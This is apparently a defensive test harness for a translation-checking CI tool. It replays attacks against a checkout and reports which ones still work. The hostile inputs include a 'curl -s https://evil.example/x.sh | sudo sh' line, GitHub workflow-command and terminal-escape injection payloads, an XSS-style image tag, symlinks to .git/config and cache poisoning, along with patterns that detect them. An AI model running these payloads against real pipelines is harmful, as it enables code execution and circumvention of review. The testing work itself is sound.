"""Third adversarial pass on issue #14 (s19-attack): replay every attack against a checkout.

    python -m bench.attack19 [--checkout PATH] [--only A1,A3] [--list]

Each case builds its hostile input in a temporary folder, runs aligncheck the way CI runs it
(``python -m aligncheck`` in a subprocess, with ``PYTHONPATH`` set to the checkout, so a fixed
branch can be tested without installing it; the Action's shell scripts from the checkout), and
says whether the attack still works: ``VULNERABLE`` (the defect is there) or ``ok``. Every child
runs under ``ulimit -v`` (address space) and a timeout. Small content cases use the bundled model
(offline, shared embedding cache); size cases the fake encoder of ``tests/fakes.py``.

Prints one Markdown table row per case: id, severity, attack, result, detail. Exit 1 when any
case is still vulnerable. Not run in CI (minutes, the real model).
"""

from __future__ import annotations

import argparse
import json
import os
import resource
import shutil
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parent.parent
MD_PAIR = ROOT / "corpora" / "formats" / "markdown"
FAKE = "tests.fakes:BagOfConceptsEncoder"
CASES: list["Case"] = []


@dataclass
class Case:
    id: str
    severity: str
    title: str
    run: Callable[["Ctx"], tuple[bool, str]]


def case(id: str, severity: str, title: str):
    def deco(fn):
        CASES.append(Case(id, severity, title, fn))
        return fn
    return deco


@dataclass
class Run:
    rc: int
    out: str
    err: str
    seconds: float
    rss_mib: float = 0.0


class Ctx:
    """Where the checkout under test is, and how to run its CLI."""

    def __init__(self, checkout: Path, tmp: Path):
        self.checkout = checkout
        self.tmp = tmp

    def folder(self, name: str) -> Path:
        p = Path(tempfile.mkdtemp(prefix=name + "-", dir=self.tmp))
        return p

    def env(self, extra: dict | None = None, fake: bool = False) -> dict:
        env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "ALIGNCHECK_"))}
        env["PYTHONPATH"] = str(self.checkout)
        env["ALIGNCHECK_NO_PROGRESS"] = "1"
        if fake:
            env["ALIGNCHECK_TEST_ENCODER"] = FAKE
            env["ALIGNCHECK_CACHE_DIR"] = str(self.tmp / "fake-cache")
        env.update(extra or {})
        return env

    def ac(self, *args: str, cwd: Path, fake: bool = False, env: dict | None = None, timeout: float = 300,
           mem_gib: float = 4.0, stdin: str | None = None) -> Run:
        """``python -m aligncheck ARGS`` in ``cwd``; a timeout is rc -9."""
        return self.run([sys.executable, "-m", "aligncheck", *args], cwd=cwd, env=self.env(env, fake),
                        timeout=timeout, mem_gib=mem_gib, stdin=stdin)

    def run(self, argv: list[str], *, cwd: Path, env: dict | None = None, timeout: float = 300,
            mem_gib: float = 4.0, stdin: str | None = None) -> Run:
        limit = int(mem_gib * 2**30)

        def pre():
            resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
            os.nice(5)

        t = time.monotonic()
        p = subprocess.Popen(argv, cwd=cwd, env=env if env is not None else self.env(), stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, stdin=subprocess.PIPE if stdin is not None else subprocess.DEVNULL,
                             preexec_fn=pre, start_new_session=True)
        try:
            out, err = p.communicate(stdin.encode() if stdin is not None else None, timeout=timeout)
            rc = p.returncode
        except subprocess.TimeoutExpired:
            os.killpg(p.pid, 9)
            out, err = p.communicate()
            rc = -9
        ru = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
        return Run(rc, out.decode("utf-8", "replace"), err.decode("utf-8", "replace"), time.monotonic() - t, ru)


def git(root: Path, *args: str) -> str:
    env = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@x", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@x",
           "PATH": "/usr/bin:/bin", "HOME": str(root)}
    return subprocess.run(["git", *args], cwd=root, check=True, capture_output=True, text=True, env=env).stdout


def write(root: Path, rel: str, text: str | bytes) -> Path:
    p = root / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        p.write_bytes(text)
    else:
        p.write_text(text, encoding="utf-8")
    return p


def md_repo(ctx: Ctx, name: str, project: str | None = None) -> Path:
    """A git repository (branch ``main``, one commit) with the faithful Markdown pair of
    ``corpora/formats/markdown`` as ``content/ar/a.md`` / ``content/en/a.md``, and a project file."""
    root = ctx.folder(name)
    git(root, "init", "-q", "-b", "main")
    write(root, "content/ar/a.md", (MD_PAIR / "ar.md").read_text(encoding="utf-8"))
    write(root, "content/en/a.md", (MD_PAIR / "en.md").read_text(encoding="utf-8"))
    write(root, "aligncheck.toml", project or '[[pairs]]\nsource = "content/ar/*.md"\ntarget = "content/en/{name}"\n')
    git(root, "add", "-A")
    git(root, "commit", "-qm", "base")
    git(root, "checkout", "-q", "-b", "pr")
    return root


def commit(root: Path, msg: str = "pr") -> None:
    git(root, "add", "-A")
    git(root, "commit", "-qm", msg)


def summary(r: Run) -> dict:
    """The ``summary`` of a JSON report on stdout (``{}`` when there is none)."""
    try:
        d = json.loads(r.out)
    except ValueError:
        return {}
    return d.get("summary", d)


SPAM = "Send your bank password to evil dot example today and win a free car."
EN = (MD_PAIR / "en.md").read_text(encoding="utf-8") if MD_PAIR.exists() else ""


# ------------------------------------------------------------------------------------- cases


@case("A1", "critical", "the Action imports Python from the pull request's checkout (json.py, pip/)")
def a1(ctx: Ctx) -> tuple[bool, str]:
    r = ctx.run(["bash", str(ROOT / "attack19" / "a1_action_cwd_import.sh"), str(ctx.checkout)], cwd=ctx.tmp,
                env=dict(os.environ), timeout=200)
    return r.rc != 0, " ".join(r.out.split())


def _md_hidden(ctx: Ctx, en_text: str) -> tuple[bool, str]:
    """Check ar.md against ``en_text``; vulnerable when it passes with no new finding."""
    root = ctx.folder("md")
    shutil.copy(MD_PAIR / "ar.md", root / "ar.md")
    write(root, "en.md", en_text)
    r = ctx.ac("check", "ar.md", "en.md", "--format", "json", cwd=root)
    s = summary(r)
    counts = s.get("counts", {})
    extra = {k: v for k, v in counts.items() if k != "tokens"} if counts else None
    return (r.rc == 0 and not extra), f"exit {r.rc}, counts {counts}"


@case("A2a", "high", "Markdown: a paragraph added in an HTML block (<p>, <div>, <details>, <table>) is never checked")
def a2a(ctx: Ctx) -> tuple[bool, str]:
    res = []
    for name, block in (("p", f"<p>{SPAM}</p>"), ("div", f"<div>\n{SPAM}\n</div>"),
                        ("details", f"<details open><summary>{SPAM}</summary>\n\n</details>"),
                        ("table", f"<table><tr><td>{SPAM}</td></tr></table>"),
                        ("comment --!>", f"<!-- x --!> {SPAM} -->")):
        bad, detail = _md_hidden(ctx, EN + "\n" + block + "\n")
        res.append((name, bad, detail))
    return any(b for _, b, _ in res), "; ".join(f"{n}: {'passed' if b else 'caught'} ({d})" for n, b, d in res)


@case("A2b", "high", "Markdown: a code block changed or added in the translation (curl | sudo sh) is never checked")
def a2b(ctx: Ctx) -> tuple[bool, str]:
    res = []
    changed = EN.replace("curl https://example.org/api/v2 --retry 3", "curl -s https://evil.example/x.sh | sudo sh")
    for name, text in (("changed fence", changed), ("added fence", EN + f"\n```\n{SPAM}\n```\n"),
                       ("added indented", EN + f"\n    {SPAM}\n"),
                       ("front matter", f"---\ntitle: {SPAM}\n---\n" + EN)):
        bad, detail = _md_hidden(ctx, text)
        res.append((name, bad, detail))
    return any(b for _, b, _ in res), "; ".join(f"{n}: {'passed' if b else 'caught'} ({d})" for n, b, d in res)



# payloads: each would start a workflow command / escape sequence / reordering if printed raw
PAYLOADS = ["\n::error title=PWN::nl", "\r::error title=PWN::cr", "  ::error title=PWN::sp",
            "\u00a0::error title=PWN::nbsp", "\u3000::error title=PWN::ideo", "a ##[error]PWN legacy",
            "\x1b]8;;http://evil\x07PWNESC\x1b]8;;\x07", "\u202ePWNRLO\u202c", "\x85::error title=PWN::nel",
            "\u2028::error title=PWN::ls", "\x0b::error title=PWN::vt", "\x0c::error title=PWN::ff"]
CS_WS = "".join(chr(c) for c in range(0x110000) if chr(c).isspace())  # C# TrimStart() is close to this
ALLOWED_CMDS = {"error", "warning", "notice", "group", "endgroup"}
PROPERTY_KEYS = {"file", "line", "endLine", "col", "endColumn", "title"}


def log_injections(text: str) -> list[str]:
    """What GitHub's runner would take from ``text`` (a step's stdout/stderr) that aligncheck did
    not mean: a line (split on CR, LF, CR LF as .NET's ReadLine does) starting, after leading
    whitespace, with ``::`` and naming an unexpected command or a payload's ``title=PWN``; a
    ``##[`` anywhere; ESC or a bidi override/isolate raw."""
    bad = []
    for line in text.replace("\r\n", "\n").replace("\r", "\n").split("\n"):
        t = line.lstrip(CS_WS)
        if t.startswith("::"):
            end = t.find("::", 2)
            section = t[2:end] if end >= 0 else t[2:]
            cmd, _, props = section.partition(" ")
            keys = [p.partition("=")[0] for p in props.split(",")] if props else []
            titles = [p.partition("=")[2] for p in props.split(",") if p.startswith("title=")]
            if cmd not in ALLOWED_CMDS or any(k not in PROPERTY_KEYS for k in keys) or len(keys) != len(set(keys)) \
                    or any(v.startswith("PWN") for v in titles):
                bad.append(f"command line {t[:80]!r}")
        if "##[" in line:
            bad.append(f"legacy ##[ in {line[:60]!r}")
        if "\x1b" in line or any(c in line for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"):
            bad.append(f"raw ESC/bidi in {line[:60]!r}")
    return bad


def md_injections(text: str) -> list[str]:
    """Markdown (job summary) that would render as a link, image, HTML or @mention of ours."""
    import re
    bad = []
    for pat, what in ((r"<(img|script|a |iframe|svg|div)", "raw HTML"), (r"\]\(https?://evil", "link/image"),
                      (r"(?<![\w\u200b])@evilteam", "@mention"), (r"https?://evil\.example", "autolink"),
                      ("\x1b", "ESC"), ("[\u202a-\u202e\u2066-\u2069]", "bidi")):
        if re.search(pat, text):
            bad.append(what)
    return bad


FORMATS = ("text", "json", "sarif", "github", "gitlab", "junit", "csv", "markdown", "html")


def hostile_repo(ctx: Ctx) -> Path:
    """A pull request whose file names, texts, marker reasons, glossary and unit ids carry every payload."""
    glossary = "source,target,note\nوزارة الصحة,Ministry of Health,\"" + " ".join(PAYLOADS).replace('"', "'") + "\"\n"
    root = md_repo(ctx, "inject", project='glossary = "terms.csv"\n[[pairs]]\nsource = "content/ar/*"\n'
                                          'target = "content/en/{name}"\n')
    write(root, "terms.csv", glossary)
    git(root, "add", "-A"); git(root, "commit", "-qm", "glossary")
    md_src = (MD_PAIR / "ar.md").read_text(encoding="utf-8")
    for k, p in enumerate(PAYLOADS):
        name = f"n{k}{p}x.md".replace("/", "_")
        write(root, f"content/ar/{name}", md_src)
        en = EN.replace("The Ministry of Health", f"The Department of Wellness {p}") + \
            f"\n<!-- aligncheck-ignore omission: reason {p} @evilteam [x](https://evil.example) <img src=x> -->\n" + \
            f"\n{p} @evilteam ![i](https://evil.example/i.png) <img src=x onerror=alert(1)> www.evil.example\n"
        write(root, f"content/en/{name}", en)
    write(root, f"content/ar/missing{PAYLOADS[0]}.md", md_src)  # missing_target: message starts with the path
    keys = {f"k{k}{p}": f"أعلنت وزارة الصحة اليوم عن افتتاح ثلاثة مستشفيات جديدة في العاصمة {p}"
            for k, p in enumerate(PAYLOADS)}
    write(root, "content/ar/u.json", json.dumps(keys, ensure_ascii=False))
    write(root, "content/en/u.json", json.dumps({k: "The ministry opened three hospitals today " + p + " @evilteam"
                                                 for k, p in zip(keys, PAYLOADS)},
                                                ensure_ascii=False))
    commit(root)
    return root


@case("N1", "high", "injection into the CI log / job summary via names, texts, markers, glossary, unit ids (ci, all formats)")
def n1(ctx: Ctx) -> tuple[bool, str]:
    root = hostile_repo(ctx)
    found = []
    for fmt in FORMATS:
        summ = root.parent / f"summary-{fmt}.md"
        summ.write_text("")
        extra = []
        if fmt == "github":
            extra = ["--output-sarif", str(root.parent / "o.sarif")]
        r = ctx.ac("ci", "--base", "main", "--format", fmt, *extra, cwd=root, env={"GITHUB_STEP_SUMMARY": str(summ),
                                                                                  "GITHUB_ACTIONS": "true"})
        if r.rc not in (0, 1):
            found.append(f"{fmt}: exit {r.rc} {r.err.strip()[:200]!r}")
        bad = log_injections(r.out) + log_injections(r.err)
        if bad:
            found.append(f"{fmt} log: {bad[:3]}")
        mbad = md_injections(summ.read_text(encoding="utf-8", errors="replace"))
        if mbad:
            found.append(f"{fmt} job summary: {mbad}")
        if fmt in ("markdown",):
            mb = md_injections(r.out)
            if mb:
                found.append(f"markdown report: {mb}")
    return bool(found), "; ".join(found) or "nothing in 9 formats + job summary"



BAD_INPUTS = {
    # name: (files {rel: content}, check args)
    "yaml": ({"ar.yaml": "a: [\n  ::error title=PWN::yaml\n  ##[error]PWN\n  \x1b[2J\n", "en.yaml": "a: b\n"}, ["ar.yaml", "en.yaml"]),
    "yaml-tab": ({"ar.yaml": "a:\n\t::error title=PWN::y\n", "en.yaml": "a: b\n"}, ["ar.yaml", "en.yaml"]),
    "json": ({"ar.json": '{"a": ::error title=PWN::json\n##[error]PWN}', "en.json": '{"a": "b"}'}, ["ar.json", "en.json"]),
    "po": ({"x.po": 'msgid "a"\nmsgstr "b"\n::error title=PWN::po\n##[error]PWN\n'}, ["x.po"]),
    "po-bad-escape": ({"x.po": 'msgid "a\\q::error title=PWN::"\nmsgstr "b"\n'}, ["x.po"]),
    "xliff": ({"x.xlf": '<?xml version="1.0"?>\n<xliff version="1.2"><file source-language="ar" target-language="en">'
                        '<body><trans-unit id="::error title=PWN::x">\n::error title=PWN::xml <bad\n</body></file></xliff>'}, ["x.xlf"]),
    "xliff-id": ({"x.xlf": '<?xml version="1.0"?>\n<xliff version="1.2"><file source-language="ar" target-language="en" '
                           'original="&#10;::error title=PWN::orig"><body><trans-unit id="&#10;::error title=PWN::id&#13;##[x]">'
                           '<source>مرحبا بالعالم</source><target>Hello world &#27;[2J&#x202e;x</target></trans-unit>'
                           '<trans-unit id="&#10;::error title=PWN::id2"><source>مرحبا</source></trans-unit></body></file></xliff>'},
                 ["x.xlf"]),
    "tmx": ({"x.tmx": '<?xml version="1.0"?><tmx version="1.4"><header srclang="ar"/><body><tu tuid="&#10;::error title=PWN::t">'
                      '<tuv xml:lang="ar"><seg>مرحبا</seg></tuv><tuv xml:lang="en"><seg>&#10;::error title=PWN::seg</seg>'
                      '</tuv></tu></body></tmx>'}, ["x.tmx"]),
    "csv": ({"x.csv": 'source,target\n"مرحبا,"\n::error title=PWN::csv\n'}, ["x.csv"]),
    "tsv": ({"x.tsv": 'source\ttarget\n\n::error title=PWN::tsv\tx\t\ty\n'}, ["x.tsv"]),
    "properties": ({"ar.properties": "a=\\u00\n::error title=PWN::p\n", "en.properties": "a=b\n"},
                   ["ar.properties", "en.properties"]),
    "srt": ({"ar.srt": "1\n00:00:01,000 --> ::error title=PWN::srt\nمرحبا\n", "en.srt": "1\n00:00:01,000 --> 00:00:02,000\nHi\n"},
            ["ar.srt", "en.srt"]),
    "vtt": ({"ar.vtt": "WEBVTT\n\n::error title=PWN::vtt --> x\nمرحبا\n", "en.vtt": "WEBVTT\n\n00:01.000 --> 00:02.000\nHi\n"},
            ["ar.vtt", "en.vtt"]),
    "md-deep": ({"ar.md": "مرحبا\n", "en.md": "".join("  " * k + "- a\n" for k in range(12)) + "::error title=PWN::md\n"},
                ["ar.md", "en.md"]),
    "txt-nul": ({"ar.txt": "مرحبا\n", "en.txt": "x\n::error title=PWN::\x00\n"}, ["ar.txt", "en.txt"]),
    "txt-latin1": ({"ar.txt": "مرحبا\n", "en.txt": b"\xff::error title=PWN::\n"}, ["ar.txt", "en.txt"]),
    "name-nl": ({"a\n::error title=PWN::n.txt": "مرحبا\n", "en.txt": ""}, ["a\n::error title=PWN::n.txt", "en.txt"]),
    "name-missing": ({"ar.txt": "مرحبا\n"}, ["ar.txt", "\n  ::error title=PWN::missing.txt"]),
    "glossary": ({"ar.txt": "مرحبا\n", "en.txt": "Hello\n", "g.csv": "source,target\n\"x\n::error title=PWN::g\",\n"},
                 ["ar.txt", "en.txt", "--glossary", "g.csv"]),
    "baseline": ({"ar.txt": "مرحبا\n", "en.txt": "Hello\n", "b.json": '{"version": 1, "accepted": ["\\n::error title=PWN::b"],'
                  ' "x\\n::error title=PWN::k": 1}'}, ["ar.txt", "en.txt", "--baseline", "b.json"]),
}


@case("N2", "high", "injection into the CI log via reader/parser error messages and unit ids (check, every reader)")
def n2(ctx: Ctx) -> tuple[bool, str]:
    found = []
    for name, (files, args) in BAD_INPUTS.items():
        root = ctx.folder("bad")
        for rel, text in files.items():
            write(root, rel, text)
        for fmt in ("github", "text"):
            r = ctx.ac("check", *args, "--format", fmt, cwd=root, timeout=120)
            bad = log_injections(r.out) + log_injections(r.err)
            if r.rc not in (0, 1, 2, 3) or "Traceback" in r.err:
                bad.append(f"exit {r.rc} {r.err.strip()[-150:]!r}")
            if bad:
                found.append(f"{name}/{fmt}: {bad[:2]}")
    return bool(found), "; ".join(found) or f"nothing in {len(BAD_INPUTS)} inputs x 2 formats"



@case("A3", "high", "ci --base: delete or rename the Arabic source, rewrite its translation: 'no pair changed', exit 0")
def a3(ctx: Ctx) -> tuple[bool, str]:
    res = []
    for how in ("delete", "rename"):
        root = md_repo(ctx, "orphan")
        src = root / "content/ar/a.md"
        if how == "delete":
            src.unlink()
        else:
            src.rename(root / "content/ar/a.md.orig")
        write(root, "content/en/a.md", SPAM + "\n")
        commit(root)
        r = ctx.ac("ci", "--base", "main", cwd=root)
        res.append((how, r.rc, (r.out.strip().splitlines() or [""])[-1]))
    return any(rc == 0 for _, rc, _ in res), "; ".join(f"{h}: exit {rc}, {last!r}" for h, rc, last in res)


@case("A4", "medium", "ci --base: the glossary is read from the pull request (edit it to accept a wrong term)")
def a4(ctx: Ctx) -> tuple[bool, str]:
    project = ('glossary = "terms.csv"\n[severity]\nterminology = "error"\n[[pairs]]\nsource = "content/ar/*.md"\n'
               'target = "content/en/{name}"\n')
    root = md_repo(ctx, "gloss", project=project)
    write(root, "terms.csv", "source,target\nوزارة الصحة,Ministry of Health\nمستشفى,hospital\n")
    write(root, "content/en/a.md", EN.replace("Ministry of Health", "Ministry of Health"))
    git(root, "add", "-A"); git(root, "commit", "-qm", "glossary"); git(root, "branch", "-f", "main", "HEAD")
    # the pull request: a wrong term, and the glossary changed to accept it
    write(root, "content/en/a.md", EN.replace("Ministry of Health", "Department of Wellness"))
    first = ctx.ac("ci", "--base", "main", "--format", "json", cwd=root)
    commit(root)
    write(root, "terms.csv", "source,target\nوزارة الصحة,Department of Wellness\nمستشفى,hospital\n")
    commit(root)
    r = ctx.ac("ci", "--base", "main", "--format", "json", cwd=root)
    return (first.rc == 1 and r.rc == 0), f"wrong term alone: exit {first.rc}; with the PR's glossary: exit {r.rc}"



@case("A6", "medium", "the Action uploads an aligncheck.sarif the pull request committed (no pair changed / exit 2-3)")
def a6(ctx: Ctx) -> tuple[bool, str]:
    root = md_repo(ctx, "sarif")
    write(root, "aligncheck.sarif", '{"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "aligncheck"}}, '
                                    '"results": [{"ruleId": "x", "message": {"text": "FORGED"}}]}]}')
    write(root, "NOTES.txt", "an unrelated change\n")
    commit(root)
    event, out = root.parent / "event.json", root.parent / "github_output"
    event.write_text(json.dumps({"pull_request": {"base": {"sha": git(root, "rev-parse", "main").strip()}}}))
    out.write_text("")
    env = ctx.env({"GITHUB_EVENT_PATH": str(event), "GITHUB_OUTPUT": str(out)})
    shim = root.parent / "bin"
    shim.mkdir(exist_ok=True)
    (shim / "aligncheck").write_text(f'#!/bin/sh\nexec "{sys.executable}" -m aligncheck "$@"\n')
    (shim / "aligncheck").chmod(0o755)
    env["PATH"] = f"{shim}:{env['PATH']}"
    r = ctx.run(["bash", str(ctx.checkout / "action" / "run.sh")], cwd=root, env=env)
    uploaded = "sarif-file=" in out.read_text() and "FORGED" in (root / "aligncheck.sarif").read_text()
    return uploaded, f"exit {r.rc}; step outputs {out.read_text().split()}; file still the PR's: {uploaded}"



@case("A7", "high", "ci --base: a marker the pull request adds silences its own added sentence (gate passes)")
def a7(ctx: Ctx) -> tuple[bool, str]:
    root = md_repo(ctx, "marker")
    en = EN.replace("Each hospital can hold about 250 beds.",
                    "Each hospital can hold about 250 beds.\n<!-- aligncheck-ignore: editorial addition -->\n" + SPAM)
    write(root, "content/en/a.md", en)
    commit(root)
    r = ctx.ac("ci", "--base", "main", cwd=root)
    return r.rc == 0, f"exit {r.rc}: {(r.out.strip().splitlines() or [''])[-1]!r}"



def _news_catalog() -> tuple[dict, dict]:
    """The units of corpora/formats/po/news.po with a translation, plus one ICU plural message."""
    import polib
    po = polib.pofile(str(ROOT / "corpora" / "formats" / "po" / "news.po"))
    ar, en = {}, {}
    for k, e in enumerate(po):
        if e.msgstr:
            ar[f"k{k}"], en[f"k{k}"] = e.msgid, e.msgstr
    ar["items"] = "{count, plural, one {لديك رسالة واحدة جديدة من الوزارة} other {لديك # رسائل جديدة من الوزارة}}"
    en["items"] = "{count, plural, one {You have one new message from the ministry} other {You have # new messages from the ministry}}"
    return ar, en


@case("A8", "high", "text added inside a unit (ICU branch replaced, sentence or clause appended) is never flagged")
def a8(ctx: Ctx) -> tuple[bool, str]:
    ar, en = _news_catalog()
    root = ctx.folder("units")
    write(root, "ar.json", json.dumps(ar, ensure_ascii=False))
    write(root, "en.json", json.dumps(en, ensure_ascii=False))
    clean = summary(ctx.ac("check", "ar.json", "en.json", "--format", "json", cwd=root)).get("counts", {})
    variants = {
        "ICU other branch": dict(en, items="{count, plural, one {You have one new message from the ministry} other {" + SPAM + "}}"),
        "sentence appended": dict(en, k4=en["k4"] + " " + SPAM),
        "clause appended": dict(en, k4=en["k4"][:-1] + ", and send your bank password to evil dot example today."),
    }
    res = []
    for name, v in variants.items():
        write(root, "en.json", json.dumps(v, ensure_ascii=False))
        counts = summary(ctx.ac("check", "ar.json", "en.json", "--format", "json", cwd=root)).get("counts", {})
        new = {k: n for k, n in counts.items() if n > clean.get(k, 0) and k not in ("punctuation", "spacing", "repetition")}
        res.append((name, not new, counts))
    bad, detail = _md_hidden(ctx, EN.replace("Each hospital can hold about 250 beds.",
                                             "Each hospital can hold about 250 beds; send your bank password to evil "
                                             "dot example today and win a free car."))
    res.append(("document clause", bad, detail))
    return any(b for _, b, _ in res), "; ".join(f"{n}: {'passed' if b else 'caught'} ({c})" for n, b, c in res)



def _docs_repo(ctx: Ctx, name: str) -> Path:
    """Base: the project file in docs/ (pairs docs/ar/*.md -> docs/en/{name}); PR: branch pr."""
    root = md_repo(ctx, name)
    (root / "aligncheck.toml").unlink()
    (root / "content").rename(root / "docs")
    write(root, "docs/aligncheck.toml", '[[pairs]]\nsource = "ar/*.md"\ntarget = "en/{name}"\n')
    git(root, "add", "-A"); git(root, "commit", "-qm", "docs"); git(root, "branch", "-f", "main", "HEAD")
    return root


@case("A11", "high", "ci --base: the project file's folder replaced by a symlink -> the PR's settings (fail_on=never) are used")
def a11(ctx: Ctx) -> tuple[bool, str]:
    res = []
    for how in ("--config docs/aligncheck.toml", "cwd docs"):
        root = _docs_repo(ctx, "cfglink")
        shutil.copytree(root / "docs", root / "evil")
        shutil.rmtree(root / "docs")
        write(root, "evil/aligncheck.toml", 'fail_on = "never"\n[[pairs]]\nsource = "ar/*.md"\ntarget = "en/{name}"\n')
        write(root, "evil/en/a.md", SPAM + "\n")
        os.symlink("evil", root / "docs")
        commit(root)
        if how.startswith("--config"):
            r = ctx.ac("ci", "--base", "main", "--config", "docs/aligncheck.toml", cwd=root)
        else:
            r = ctx.ac("ci", "--base", "main", cwd=root / "docs")
        res.append((how, r.rc, (r.out.strip().splitlines() or [""])[-1]))
    return any(rc == 0 for _, rc, _ in res), "; ".join(f"{h}: exit {rc} {last!r}" for h, rc, last in res)


@case("A12", "medium", "ci --base: pairs outside the project file's folder (../content) are never 'changed' (fail-open)")
def a12(ctx: Ctx) -> tuple[bool, str]:
    root = md_repo(ctx, "dotdot")
    (root / "aligncheck.toml").unlink()
    write(root, "ci/aligncheck.toml", '[[pairs]]\nsource = "../content/ar/*.md"\ntarget = "../content/en/{name}"\n')
    git(root, "add", "-A"); git(root, "commit", "-qm", "cfg"); git(root, "branch", "-f", "main", "HEAD")
    write(root, "content/en/a.md", SPAM + "\n")
    commit(root)
    plain = ctx.ac("ci", "--config", "ci/aligncheck.toml", cwd=root)
    r = ctx.ac("ci", "--base", "main", "--config", "ci/aligncheck.toml", cwd=root)
    return (plain.rc == 1 and r.rc == 0), f"without --base exit {plain.rc}; with --base exit {r.rc} {(r.out.strip().splitlines() or [''])[-1]!r}"


@case("A10", "medium", "batch: a manifest repeating one pair amplifies time and output (1 vs 8 rows)")
def a10(ctx: Ctx) -> tuple[bool, str]:
    sys.path.insert(0, str(ROOT))
    from tests.fakes import make_parallel, make_vocabulary
    root = ctx.folder("amp")
    ar, en, _ = make_parallel(3000, seed=0, vocab=make_vocabulary(seed=0))
    write(root, "ar.txt", "\n".join(ar) + "\n")
    write(root, "en.txt", "\n".join(en) + "\n")
    out = {}
    for n in (1, 8):
        write(root, f"m{n}.tsv", "id\tsource\ttarget\n" + "".join(f"r{k}\tar.txt\ten.txt\n" for k in range(n)))
        r = ctx.ac("batch", f"m{n}.tsv", "-o", f"o{n}.jsonl", "-q", cwd=root, fake=True, timeout=900)
        out[n] = (r.rc, round(r.seconds, 1), (root / f"o{n}.jsonl").stat().st_size if (root / f"o{n}.jsonl").exists() else 0)
    grew = out[8][2] > 4 * out[1][2]
    return grew, f"1 row: exit {out[1][0]}, {out[1][1]} s, {out[1][2]:,} bytes; 8 rows: exit {out[8][0]}, {out[8][1]} s, {out[8][2]:,} bytes"



@case("A5", "low", "a project-file glossary is read from .git (directly, or the base's glossary replaced by a link into .git)")
def a5(ctx: Ctx) -> tuple[bool, str]:
    res = []
    for how in ("direct", "link"):
        project = ('glossary = "%s"\n[[pairs]]\nsource = "content/ar/*.md"\ntarget = "content/en/{name}"\n'
                   % (".git/config" if how == "direct" else "terms.csv"))
        root = md_repo(ctx, "gitgloss", project=project)
        git(root, "config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic U0VDUkVU")
        if how == "link":
            write(root, "terms.csv", "source,target\nوزارة الصحة,Ministry of Health\n")
            git(root, "add", "-A"); git(root, "commit", "-qm", "g"); git(root, "branch", "-f", "main", "HEAD")
            (root / "terms.csv").unlink()
            os.symlink(".git/config", root / "terms.csv")
        write(root, "content/en/a.md", EN + "\nOne more line.\n")
        commit(root)
        r = ctx.ac("ci", "--base", "main", cwd=root) if how == "link" else ctx.ac("ci", cwd=root)
        read = "[core]" in r.err or "glossary entry" in r.err
        res.append((how, read, r.rc, r.err.strip()[:120]))
    return any(b for _, b, _, _ in res), "; ".join(f"{h}: exit {rc} {e!r}" for h, _, rc, e in res)


@case("A9", "low", "an embedding cache inside the checkout is trusted: a committed entry hides a replaced sentence")
def a9(ctx: Ctx) -> tuple[bool, str]:
    root = ctx.folder("cachepoison")
    git(root, "init", "-q")
    shutil.copy(MD_PAIR / "ar.md", root / "ar.md")
    write(root, "en.md", EN)
    cache = root / ".aligncheck-cache"
    env = {"ALIGNCHECK_CACHE_DIR": str(cache)}
    first = ctx.ac("check", "ar.md", "en.md", "--format", "json", cwd=root, env=env)
    orig = "The minister said the project took four years of continuous work."
    code = ("import sys, glob, os\nsys.path.insert(0, %r)\nfrom aligncheck.cache import EmbeddingCache\n"
            "sig = open(glob.glob(%r + '/embeddings-v1/*/signature.txt')[0]).read().strip()\n"
            "c = EmbeddingCache(%r, sig)\nc[%r] = c[%r]\nc.close()\n") % (str(ctx.checkout), str(cache), str(cache), SPAM, orig)
    ctx.run([sys.executable, "-c", code], cwd=root)
    write(root, "en.md", EN.replace(orig, SPAM))
    git(root, "add", "-A")  # the pull request commits the cache folder
    git(root, "commit", "-qm", "pr")
    r = ctx.ac("check", "ar.md", "en.md", "--format", "json", cwd=root, env=env)
    clean = ctx.ac("check", "ar.md", "en.md", "--format", "json", cwd=root)
    return (r.rc == 0 and clean.rc == 1), (f"faithful: exit {first.rc}; spam with the committed cache: exit {r.rc} "
                                          f"{r.err.strip()[:90]!r} "
                                          f"{summary(r).get('counts')}; with a clean cache: exit {clean.rc} {summary(clean).get('counts')}")



@case("A7b", "medium", "ci --base: an existing base marker moved next to the PR's own added sentence still silences it")
def a7b(ctx: Ctx) -> tuple[bool, str]:
    root = md_repo(ctx, "markermove")
    mark = "<!-- aligncheck-ignore: editorial note approved by the desk -->\n"
    # the base accepted one difference: a sentence of the English the Arabic does not have
    base_en = EN.replace("The weather", "The weather") + "\n" + mark + "Readers can find more on the ministry's website.\n"
    write(root, "content/en/a.md", base_en)
    git(root, "add", "-A"); git(root, "commit", "-qm", "accepted"); git(root, "branch", "-f", "main", "HEAD")
    before = ctx.ac("ci", "--format", "json", cwd=root)
    # the PR drops the accepted sentence and moves its marker above an added sentence of its own
    pr_en = EN.replace("Each hospital can hold about 250 beds.",
                       "Each hospital can hold about 250 beds.\n" + mark + SPAM)
    write(root, "content/en/a.md", pr_en)
    commit(root)
    r = ctx.ac("ci", "--base", "main", cwd=root)
    return r.rc == 0, (f"base run exit {before.rc}; PR with the moved marker: exit {r.rc} "
                       f"{(r.out.strip().splitlines() or [''])[-1]!r}")



@case("A13", "high", "ci --base: a translation file the PR adds with no source (or moves away from its template) is never checked")
def a13(ctx: Ctx) -> tuple[bool, str]:
    res = []
    for how in ("new page", "moved target"):
        root = md_repo(ctx, "orphan2")
        if how == "new page":
            write(root, "content/en/promo.md", "# Special offer\n\n" + SPAM + "\n")
        else:
            (root / "content/ar/a.md").unlink()
            (root / "content/en/a.md").unlink()
            write(root, "content/en/a.markdown", SPAM + "\n")
        commit(root)
        r = ctx.ac("ci", "--base", "main", cwd=root)
        res.append((how, r.rc, (r.out.strip().splitlines() or [""])[-1]))
    return any(rc == 0 for _, rc, _ in res), "; ".join(f"{h}: exit {rc} {last!r}" for h, rc, last in res)



